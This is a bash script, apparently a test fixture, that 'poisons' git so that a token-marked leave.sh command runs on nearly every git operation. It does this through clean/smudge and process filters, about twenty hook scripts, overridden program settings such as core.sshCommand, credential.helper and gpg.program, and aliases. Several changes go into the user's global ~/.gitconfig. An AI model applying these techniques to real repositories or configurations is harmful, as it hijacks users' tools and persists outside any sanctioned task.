#!/bin/bash
# poison_git.sh TOKEN KIND [FILE]: has every git that works here run something that stays.
set -eu
token=$1 kind=$2 file=${3-}
leave="sh $PWD/acts/leave.sh $token $file"
config() { git config "$@"; }

filters() {
	cat >acts/process.sh <<-END
		#!/bin/bash
		$leave
		exec git-lfs filter-process 2>/dev/null
	END
	config filter.spy.clean "$leave; cat"
	config filter.spy.smudge "$leave; cat"
	config filter.pipe.process "bash $PWD/acts/process.sh"
	config filter.pipe.clean "$leave; cat"
	printf '*.txt filter=spy\n*.bin filter=pipe\n' >.gitattributes
	echo changed >a.txt
	echo changed >b.bin
	printf '[filter "spy"]\n\tclean = %s; cat\n' "$leave" >>~/.gitconfig
}

hooks() {
	mkdir -p .git/hooks
	for name in applypatch-msg pre-commit post-commit commit-msg prepare-commit-msg post-checkout \
		post-merge pre-push post-rewrite post-index-change reference-transaction fsmonitor-watchman \
		pre-auto-gc push-to-checkout pre-receive update post-receive post-update; do
		printf '#!/bin/sh\n%s\n' "$leave" >.git/hooks/$name
		chmod +x .git/hooks/$name
	done
	config core.hooksPath "$PWD/.git/hooks"
	config --global core.hooksPath "$PWD/.git/hooks"
	config --global init.templateDir "$PWD/.git"
}

programs() {
	for name in core.fsmonitor core.sshCommand core.askPass core.pager core.editor sequence.editor \
		core.alternateRefsCommand core.gitProxy diff.external gpg.program credential.helper \
		interactive.diffFilter uploadpack.packObjectsHook gc.recentObjectsHook \
		diff.spy.textconv diff.spy.command merge.spy.driver trailer.spy.command; do
		config $name "$leave;:"
		config --global $name "$leave;:"
	done
	for name in add commit status diff rev-parse fetch upload-pack for-each-ref; do
		config alias.$name "!$leave"
		config --global alias.$name "!$leave"
	done
	for setting in "commit.gpgSign true" "tag.gpgSign true" "push.gpgSign if-asked" \
		"core.untrackedCache true" "diff.algorithm patience" "log.showSignature true" \
		"remote.origin.uploadpack $leave;:" "remote.origin.receivepack $leave;:" \
		"submodule.recurse true" "maintenance.auto true" "gc.auto 1" "gc.autoDetach true"; do
		config ${setting%% *} "${setting#* }"
	done
	echo '* diff=spy merge=spy' >.gitattributes
	echo changed >README
}

$kind
echo poisoned
